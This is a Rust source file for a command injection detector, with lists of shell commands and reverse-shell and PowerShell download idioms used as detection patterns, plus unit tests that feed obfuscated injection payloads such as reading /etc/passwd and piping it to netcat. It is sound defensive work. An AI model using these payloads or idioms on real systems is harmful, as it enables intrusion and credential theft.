//! OS command injection detector.
//!
//! # What
//! Finds shell commands smuggled into a value: a command word in *command
//! position* — after a shell separator (`;`, `|`, `||`, `&`, `&&`, newline),
//! inside `$( … )` or backticks, or at the very start of a value that then
//! chains or redirects — plus PowerShell download/execute idioms and Windows
//! `cmd /c`.
//!
//! # Why
//! Applications that pass user input to `system()`, `popen()`, `exec` or
//! `Runtime.exec` with a shell let the attacker append commands. Payloads
//! are routinely obfuscated, so words are reassembled by a small tokenizer
//! before the lookup: quotes are dropped (`c'a't`, `c""at`), backslashes and
//! cmd carets are dropped (`c\at`, `w^h^o^a^m^i`), `$@`, `$*`, `$1`…`$9` and
//! `$()` expand to nothing, `${IFS}` / `$IFS` / tab / `<` / `,` split words
//! (`cat${IFS}/etc/passwd`, `{cat,/etc/passwd}`), paths and `.exe` are
//! stripped from the command (`/usr/bin/id`, `C:\Windows\System32\cmd.exe`).
//!
//! To keep prose such as "cat food | dog food" or "rm -rf tutorial" quiet,
//! common English words that are also commands (`cat`, `sort`, `find`, …)
//! only count when their argument looks like shell (`-x`, `/path`, `$VAR`,
//! a number for `sleep`/`ping`, nothing at all) and a value that merely
//! *starts* with a command must also chain or redirect.
//!
//! # Gate
//! Every shell idiom holds one of `/`, `-`, `(`, `>`, `|`, and a command word
//! can only be in command position after a separator, substitution or
//! redirection byte (`;`, `|`, `&`, `(`, `{`, `$`, a backtick, `<`, `>`, a
//! line break); a value without any of them is skipped (a command at the
//! very start must chain or redirect too).
//!
//! # Example
//! `127.0.0.1; c'a't${IFS}/etc/passwd` → `CmdInjection`, fingerprint `;cat`.
//!
//! # References
//! CWE-78; OWASP CRS REQUEST-932-APPLICATION-ATTACK-RCE (932100–932260,
//! 932120 PowerShell, 932200 bypass techniques).

use std::sync::LazyLock;

use crate::gate::Literals;
use crate::{AttackClass, ByteClasses, Detection};

/// Longest command word considered (longer words are never commands).
const MAX_WORD: usize = 32;

/// Commands that are rarely English words: one in command position is enough.
static STRONG_COMMANDS: WordList = WordList::new(&[
    "id",
    "whoami",
    "uname",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "busybox",
    "socat",
    "telnet",
    "ssh",
    "scp",
    "tftp",
    "nslookup",
    "ifconfig",
    "ipconfig",
    "netstat",
    "passwd",
    "chmod",
    "chown",
    "chgrp",
    "base64",
    "xxd",
    "python2",
    "python3",
    "nohup",
    "xargs",
    "awk",
    "gawk",
    "sed",
    "hostname",
    "systeminfo",
    "tasklist",
    "taskkill",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "wmic",
    "cscript",
    "wscript",
    "powershell",
    "pwsh",
    "cmd",
    "getent",
    "useradd",
    "usermod",
    "crontab",
    "mkfifo",
    "mknod",
    "sudo",
    "printenv",
    "ls",
    "pwd",
    "ps",
    "lsof",
    "killall",
    "pkill",
    "traceroute",
    "tracert",
    "schtasks",
    "vssadmin",
    "icacls",
    "rmdir",
    "unlink",
    "gunzip",
    "openssl",
    "grep",
    "egrep",
    "fgrep",
    "whereis",
    "uptime",
    "lastlog",
    "dmesg",
    "iptables",
    "bzip2",
    "nmap",
    "chattr",
    "jrunscript",
    "jjs",
    "getfacl",
    "setfacl",
    "hexdump",
    "ping6",
    "ftp",
]);

/// Commands that are also everyday words (or language names): they need a
/// shell-looking argument, a number (`sleep 5`) or to stand alone after `;`/`|`.
static WEAK_COMMANDS: WordList = WordList::new(&[
    "cat", "echo", "sort", "head", "tail", "find", "more", "less", "type", "set", "time", "date",
    "who", "touch", "which", "locate", "test", "print", "wait", "watch", "nice", "file", "stat",
    "du", "df", "free", "top", "history", "alias", "export", "source", "start", "call", "copy",
    "move", "tree", "join", "split", "paste", "fold", "look", "write", "read", "finger", "mail",
    "make", "open", "nl", "rev", "tac", "sum", "cal", "bc", "uniq", "wc", "man", "info", "host",
    "ping", "sleep", "timeout", "kill", "last", "dig", "net", "su", "cut", "tr", "zip", "unzip",
    "tar", "gzip", "mount", "diff", "strings", "tee", "eval", "exec", "node", "halt", "reboot",
    "shutdown", "expr", "dir", "del", "rm", "cp", "mv", "env", "perl", "python", "php", "ruby",
    "lua", "reg", "sc", "ver", "od", "w", "ash", "env", "vi", "vim", "nano", "ln", "mkdir", "uniq",
]);

/// Bytes that separate, substitute or redirect commands.
const SHELL_SYNTAX: ByteClasses = ByteClasses::bytes(b";|&\n\r({$`<>");

/// Every [`ALWAYS`] indicator holds one of these bytes; input without any of
/// them skips that search.
const ALWAYS_BYTES: ByteClasses = ByteClasses::bytes(b"/-(>|");

/// Indicators that need no command-position analysis.
const ALWAYS_PATTERNS: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "cmd.exe /c",
    "cmd /c ",
    "cmd.exe /k",
    "cmd /k ",
    "powershell -e",
    "powershell.exe -e",
    "powershell -nop",
    "powershell.exe -nop",
    "powershell -w",
    "powershell -c",
    "powershell.exe -c",
    "invoke-expression",
    "invoke-webrequest",
    "invoke-restmethod",
    "iex(new-object",
    "iex (new-object",
    "iex(iwr",
    "iex (iwr",
    "new-object net.webclient",
    "new-object system.net.webclient",
    ").downloadstring(",
    ").downloadfile(",
    "start-process ",
    "-encodedcommand",
    "bash -i >",
    "sh -i >",
    "0>&1",
    "nc -e ",
    "ncat -e ",
    "nc.exe -e ",
    "|sh\n",
    "| sh\n",
    "|bash\n",
    "| bash\n",
];

static ALWAYS: LazyLock<Literals> = LazyLock::new(|| Literals::any_case(ALWAYS_PATTERNS));

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Position {
    /// Start of the value: a command here must chain or redirect too.
    Start,
    /// After `;`, `&`, `&&`, `||`, `$(` or a backtick: a strong command is enough.
    Immediate,
    /// After a single `|` or a backtick: a strong command needs a shell-looking
    /// argument or to stand alone (`| id`), not `| id | name |` (markdown table)
    /// or `` `ls` output`` prose after an argument word.
    Pipe,
    /// After a newline, `(` or `{`: needs a shell-looking argument.
    Soft,
    /// Not a command position.
    Argument,
}

#[derive(Debug)]
struct Pending {
    position: Position,
    strong: bool,
    numeric_ok: bool,
    /// A shell-looking argument followed the command (used at value start).
    shellish_args: bool,
    /// Plain words followed the command (`curl bash meaning`).
    plain_args: bool,
    /// A redirection followed; the next word decides.
    redirected: bool,
    /// Arguments seen so far; only the first two can make the case.
    args: u8,
    start: usize,
    end: usize,
    separator: u8,
}

/// Inspects `input` and returns a detection when it holds an attack of this class.
pub fn detect(input: &[u8]) -> Option<Detection> {
    detect_gated(input, ByteClasses::of(input))
}

/// The gate of [`detect_gated`] (see the module doc): false when no value of
/// `classes` can hold an attack of this class.
pub(crate) fn may_fire(classes: ByteClasses) -> bool {
    classes.has_any(SHELL_SYNTAX) || classes.has_any(ALWAYS_BYTES) && ALWAYS.may_occur(classes)
}

/// [`detect`] for an input whose byte classes are `classes` (or a subset of them).
pub fn detect_gated(input: &[u8], classes: ByteClasses) -> Option<Detection> {
    if !may_fire(classes) {
        return None;
    }
    if classes.has_any(ALWAYS_BYTES)
        && let Some(found) = ALWAYS.find(input, classes)
    {
        return Some(Detection::new(
            AttackClass::CmdInjection,
            8,
            found.range(),
            "shell idiom",
        ));
    }
    // Without a separator, substitution or redirection byte nothing can be in
    // command position except the value start, which needs a chain anyway.
    if !classes.has_any(SHELL_SYNTAX) {
        return None;
    }
    let mut tokenizer = Tokenizer { input, pos: 0 };
    let mut position = Position::Start;
    let mut separator: u8 = b'^';
    let mut pending: Option<Pending> = None;
    loop {
        let token = tokenizer.next_token()?;
        if let Some(mut candidate) = pending.take() {
            match decide(&mut candidate, &token) {
                Decision::Confirm => return Some(candidate.into_detection()),
                Decision::Keep => pending = Some(candidate),
                Decision::Drop => {}
            }
        }
        match token {
            Token::Separator(byte) => {
                position = match byte {
                    b'|' | b'`' => Position::Pipe,
                    b'\n' | b'(' | b'{' => Position::Soft,
                    _ => Position::Immediate,
                };
                separator = byte;
            }
            Token::Redirect(_) => position = Position::Argument,
            Token::Word {
                start,
                end,
                word,
                len,
                glued,
                path,
                ..
            } => {
                let brace_list = glued && separator == b'{' && tokenizer.peek(0) == Some(b',');
                if position != Position::Argument
                    && pending.is_none()
                    && len > 0
                    && (!glued || brace_list)
                {
                    let command = command_name(&word[..len]);
                    let strong = STRONG_COMMANDS.contains(command);
                    if strong || WEAK_COMMANDS.contains(command) {
                        let candidate = Pending {
                            position,
                            strong,
                            numeric_ok: matches!(command, b"sleep" | b"ping" | b"timeout"),
                            shellish_args: false,
                            plain_args: false,
                            redirected: false,
                            args: 0,
                            start,
                            end,
                            separator,
                        };
                        if strong && path && position != Position::Start {
                            return Some(candidate.into_detection());
                        }
                        pending = Some(candidate);
                    }
                }
                position = Position::Argument;
            }
            Token::End => return None,
        }
    }
}

enum Decision {
    Confirm,
    Keep,
    Drop,
}

/// Decides a pending command word given the token that follows it.
fn decide(candidate: &mut Pending, token: &Token) -> Decision {
    let at_start = candidate.position == Position::Start;
    match token {
        Token::Word {
            word,
            len,
            shellish,
            option_or_path,
            ..
        } => {
            let numeric = candidate.numeric_ok && is_number(&word[..*len]);
            if at_start {
                candidate.shellish_args |= *option_or_path;
                Decision::Keep
            } else if (*shellish || numeric) && (candidate.args < 2 || candidate.redirected) {
                Decision::Confirm
            } else if candidate.redirected || candidate.args >= 2 {
                Decision::Drop
            } else {
                candidate.plain_args = true;
                candidate.args += 1;
                Decision::Keep
            }
        }
        Token::Redirect(_) if !at_start => {
            candidate.redirected = true;
            Decision::Keep
        }
        Token::Separator(byte) | Token::Redirect(byte) => {
            let redirect = matches!(token, Token::Redirect(_));
            if at_start {
                let chains = redirect || matches!(byte, b'|' | b';' | b'&');
                if chains && candidate.shellish_args {
                    Decision::Confirm
                } else {
                    Decision::Drop
                }
            } else if candidate.plain_args || candidate.redirected {
                Decision::Drop
            } else if candidate.position == Position::Pipe && *byte == b'|' && !redirect {
                // `| id | name |` is a markdown table row, not a pipeline.
                Decision::Drop
            } else if !candidate.strong && !candidate.weak_may_stand_alone() {
                Decision::Drop
            } else {
                Decision::Confirm
            }
        }
        Token::End => {
            if at_start
                || candidate.plain_args
                || candidate.redirected
                || (!candidate.strong && !candidate.weak_may_stand_alone())
            {
                Decision::Drop
            } else {
                Decision::Confirm
            }
        }
    }
}

/// A list of lower-case words, with the first bytes its words of each length start with:
/// most words of a value are ruled out by that, without a comparison with each entry.
struct WordList {
    words: &'static [&'static str],
    /// For each length up to [`MAX_WORD`], a bit per first byte (`byte % 32`) of a word
    /// of that length.
    first_bytes: [u32; MAX_WORD + 1],
}

impl WordList {
    const fn new(words: &'static [&'static str]) -> WordList {
        let mut first_bytes = [0u32; MAX_WORD + 1];
        let mut index = 0;
        while index < words.len() {
            let word = words[index].as_bytes();
            assert!(!word.is_empty() && word.len() <= MAX_WORD);
            first_bytes[word.len()] |= 1 << (word[0] % 32);
            index += 1;
        }
        WordList { words, first_bytes }
    }

    /// Whether `word` is in the list.
    fn contains(&self, word: &[u8]) -> bool {
        let (Some(&first), Some(&first_bytes)) = (word.first(), self.first_bytes.get(word.len()))
        else {
            return false;
        };
        first_bytes & (1 << (first % 32)) != 0
            && self.words.iter().any(|entry| entry.as_bytes() == word)
    }
}

fn is_number(word: &[u8]) -> bool {
    !word.is_empty()
        && word
            .iter()
            .all(|byte| byte.is_ascii_digit() || *byte == b'.')
}

/// Bytes the word loop of [`Tokenizer::next_token`] treats other than by appending them
/// to the word: blanks, separators, substitutions, redirections, quotes, escapes and
/// path separators.
const WORD_SPECIAL_BYTES: [bool; 256] = crate::byte_set(b" \t\x0b\x0c;\n\r|&`<>(){},$'\"^\\/");

/// Arguments that only make sense to a shell command (`ps aux`, `net user`, `dir c:`).
fn known_argument(word: &[u8]) -> bool {
    matches!(
        word,
        b"aux"
            | b"-ef"
            | b"user"
            | b"users"
            | b"localgroup"
            | b"share"
            | b"view"
            | b"config"
            | b"query"
            | b"all"
    ) || (word.len() == 2 && word[0].is_ascii_alphabetic() && word[1] == b':')
}

/// Strips a Windows executable suffix; the tokenizer already dropped directories.
fn command_name(base: &[u8]) -> &[u8] {
    for suffix in [b".exe".as_slice(), b".com", b".bat"] {
        if let Some(stripped) = base.strip_suffix(suffix) {
            return stripped;
        }
    }
    base
}

impl Pending {
    /// A bare everyday-word command (`; cat`, `$(sleep)`) counts after `;`,
    /// `||` or `$(`, but not after `&` or `&&` ("salt & more").
    fn weak_may_stand_alone(&self) -> bool {
        self.position == Position::Immediate && self.separator != b'&'
    }

    fn into_detection(self) -> Detection {
        let separator = match self.separator {
            b'\n' => "\\n".to_owned(),
            byte => (byte as char).to_string(),
        };
        let score = if self.strong { 8 } else { 6 };
        let mut detection =
            Detection::new(AttackClass::CmdInjection, score, self.start..self.end, "");
        detection.fingerprint = format!("{separator}command");
        detection
    }
}

enum Token {
    Separator(u8),
    Redirect(u8),
    Word {
        start: usize,
        end: usize,
        word: [u8; MAX_WORD],
        len: usize,
        shellish: bool,
        option_or_path: bool,
        glued: bool,
        path: bool,
    },
    End,
}

struct Tokenizer<'a> {
    input: &'a [u8],
    pos: usize,
}

impl Tokenizer<'_> {
    fn peek(&self, offset: usize) -> Option<u8> {
        self.input.get(self.pos + offset).copied()
    }

    fn starts_with(&self, text: &[u8]) -> bool {
        crate::starts_with_ci(&self.input[self.pos..], text)
    }

    /// Length of an "empty" shell expansion at the cursor (`$@`, `$*`, `$1`, `$()`, `''`, `""`).
    fn empty_expansion(&self) -> usize {
        match (self.peek(0), self.peek(1)) {
            (Some(b'$'), Some(b'@' | b'*' | b'0'..=b'9')) => 2,
            (Some(b'$'), Some(b'(')) if self.peek(2) == Some(b')') => 3,
            (Some(b'$'), Some(b'{')) if self.peek(2) == Some(b'}') => 3,
            _ => 0,
        }
    }

    /// Length of a word-splitting `$IFS` / `${IFS}` / `${IFS%??}` at the cursor.
    fn ifs(&self) -> usize {
        if self.starts_with(b"${ifs") {
            let rest = &self.input[self.pos..];
            return rest
                .iter()
                .take(16)
                .position(|&byte| byte == b'}')
                .map_or(5, |index| index + 1);
        }
        if self.starts_with(b"$ifs") { 4 } else { 0 }
    }

    fn next_token(&mut self) -> Option<Token> {
        // Skip blanks.
        loop {
            match self.peek(0) {
                Some(b' ' | b'\t' | b'\x0b' | b'\x0c' | b',' | b'}' | b')') => self.pos += 1,
                Some(b'$') if self.ifs() > 0 => self.pos += self.ifs(),
                // Markdown code fences (```), not command substitution.
                Some(b'`') if self.peek(1) == Some(b'`') => {
                    while self.peek(0) == Some(b'`') {
                        self.pos += 1;
                    }
                    // The fence's info string (```bash) names a language.
                    while self
                        .peek(0)
                        .is_some_and(|byte| byte.is_ascii_alphanumeric())
                    {
                        self.pos += 1;
                    }
                }
                _ => break,
            }
        }
        let start = self.pos;
        let Some(byte) = self.peek(0) else {
            return Some(Token::End);
        };
        match byte {
            b';' | b'\n' | b'\r' | b'(' | b'{' | b'`' => {
                self.pos += 1;
                if byte == b'\r' && self.peek(0) == Some(b'\n') {
                    self.pos += 1;
                }
                let byte = if byte == b'\r' { b'\n' } else { byte };
                return Some(Token::Separator(byte));
            }
            b'|' | b'&' => {
                self.pos += 1;
                if self.peek(0) == Some(byte) {
                    self.pos += 1;
                }
                return Some(Token::Separator(byte));
            }
            b'$' if self.peek(1) == Some(b'(') && self.peek(2) != Some(b')') => {
                self.pos += 2;
                return Some(Token::Separator(b'$'));
            }
            b'>' | b'<' => {
                self.pos += 1;
                while matches!(self.peek(0), Some(b'>' | b'&' | b'<')) {
                    self.pos += 1;
                }
                return Some(Token::Redirect(byte));
            }
            _ => {}
        }
        // A word: reassemble through quotes, escapes and empty expansions.
        let mut word = [0u8; MAX_WORD];
        let mut len = 0usize;
        let mut overflow = false;
        let mut shellish = false;
        let mut first = true;
        let mut single_quotes = 0usize;
        let mut option_or_path = false;
        let mut path = false;
        while let Some(byte) = self.peek(0) {
            if !first && !WORD_SPECIAL_BYTES[usize::from(byte)] {
                // The common case, kept short: a byte that is only part of the word.
                push_word_byte(&mut word, &mut len, &mut overflow, byte);
                self.pos += 1;
                continue;
            }
            let empty = self.empty_expansion();
            if empty > 0 {
                self.pos += empty;
                continue;
            }
            match byte {
                b' ' | b'\t' | b'\x0b' | b'\x0c' | b';' | b'\n' | b'\r' | b'|' | b'&' | b'`'
                | b'<' | b'>' | b'(' | b')' | b'{' | b'}' | b',' => break,
                b'$' if self.ifs() > 0 || self.peek(1) == Some(b'(') => break,
                b'$' if self.peek(1) == Some(b'{') => {
                    // `${name}` is a variable reference, part of the word.
                    let rest = &self.input[self.pos..];
                    let close = rest
                        .iter()
                        .take(64)
                        .position(|&byte| byte == b'}')
                        .map_or(2, |index| index + 1);
                    self.pos += close;
                    shellish = true;
                    first = false;
                    continue;
                }
                b'\'' | b'"' | b'^' => {
                    single_quotes += usize::from(byte == b'\'');
                    self.pos += 1;
                    continue;
                }
                b'\\' => {
                    // Backslash splitting (c\at) — but keep Windows path separators.
                    let next = self.peek(1);
                    if next.is_some_and(|next| next.is_ascii_alphanumeric())
                        && (path || (len > 0 && word[..len].contains(&b':')))
                    {
                        // Looks like C:\path — keep as a separator.
                    } else {
                        self.pos += 1;
                        continue;
                    }
                }
                _ => {}
            }
            if first {
                let option = byte == b'-'
                    && self
                        .peek(1)
                        .is_some_and(|next| next.is_ascii_alphanumeric());
                option_or_path = option || matches!(byte, b'/' | b'~' | b'$' | b'.' | b'\\' | b'*');
                shellish = option_or_path;
                first = false;
            }
            if matches!(byte, b'/' | b'\\' | b'$') {
                shellish = true;
            }
            if byte == b'/' || byte == b'\\' {
                // Keep only the last path component: `/usr/bin/id` → `id`.
                path = true;
                len = 0;
                overflow = false;
                self.pos += 1;
                continue;
            }
            push_word_byte(&mut word, &mut len, &mut overflow, byte);
            self.pos += 1;
        }
        if overflow {
            len = 0;
        }
        let dots = word[..len].iter().filter(|&&byte| byte == b'.').count();
        if dots >= 3
            && word[..len]
                .iter()
                .all(|byte| byte.is_ascii_digit() || *byte == b'.' || *byte == b':')
        {
            shellish = true;
        }
        // A host or file name (`evil.example`, `x.sh`) is a plausible argument too.
        let dotted_name = dots >= 1
            && len > 2
            && word[0].is_ascii_alphanumeric()
            && word[len - 1].is_ascii_alphanumeric();
        if self.pos == start {
            // Defensive: never stall on an unexpected byte.
            self.pos += 1;
        }
        // A word glued to `,` `=` `:` `(` `.` is an identifier (`base64,`, `sort(a)`), not a command.
        let glued = matches!(self.peek(0), Some(b',' | b'=' | b':' | b'(' | b'.'));
        if single_quotes % 2 == 1 {
            // `I'd`: an unbalanced quote is an apostrophe, not quote-splitting.
            len = 0;
        }
        Some(Token::Word {
            start,
            end: self.pos,
            word,
            len,
            shellish: shellish || dotted_name || known_argument(&word[..len]),
            option_or_path,
            glued,
            path,
        })
    }
}

/// Appends a byte, lowercased, to a command word; a word longer than [`MAX_WORD`] is marked
/// as overflowing (it is no command name).
fn push_word_byte(word: &mut [u8; MAX_WORD], len: &mut usize, overflow: &mut bool, byte: u8) {
    if *len < MAX_WORD {
        word[*len] = byte.to_ascii_lowercase();
        *len += 1;
    } else {
        *overflow = true;
    }
}

#[cfg(test)]
mod tests {

    #[test]
    fn every_always_pattern_holds_a_prefilter_byte() {
        for pattern in super::ALWAYS_PATTERNS {
            assert!(
                crate::ByteClasses::of(pattern.as_bytes()).has_any(super::ALWAYS_BYTES),
                "{pattern:?} would be skipped by the ALWAYS_BYTES pre-check"
            );
        }
    }

    use super::detect;

    #[test]
    fn detects_obfuscated_commands() {
        for payload in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "a && whoami",
            "$(whoami)",
            "`id`",
            "; c'a't${IFS}/etc/passwd",
            "|w\\ho\\am\\i",
            "& w^h^o^a^m^i",
            "\nuname -a",
            ";{cat,/etc/passwd}",
            "| /usr/bin/id",
            "|| sleep 5",
            "; ping -c 10 127.0.0.1",
            "powershell -enc SQBFAFgA",
            "x & C:\\Windows\\System32\\cmd.exe /c dir",
            "cat /etc/passwd | nc 10.0.0.1 4444",
            "a;c$@at /etc/shadow",
            "|cat /etc/hosts",
        ] {
            assert!(detect(payload.as_bytes()).is_some(), "missed {payload:?}");
        }
    }

    #[test]
    fn prose_with_command_words_is_quiet() {
        for text in [
            "cat food | dog food",
            "rm -rf tutorial",
            "select a union plan",
            "Tom & Jerry; find them on TV",
            "sort by price | head to the store",
            "| id | name | price |",
            "Price | Ruby red shoes",
            "echo chamber effects",
            "R&D; time to market",
            "100% cotton & more",
            "Q&A session (free)",
        ] {
            assert_eq!(detect(text.as_bytes()), None, "false positive on {text:?}");
        }
    }
}
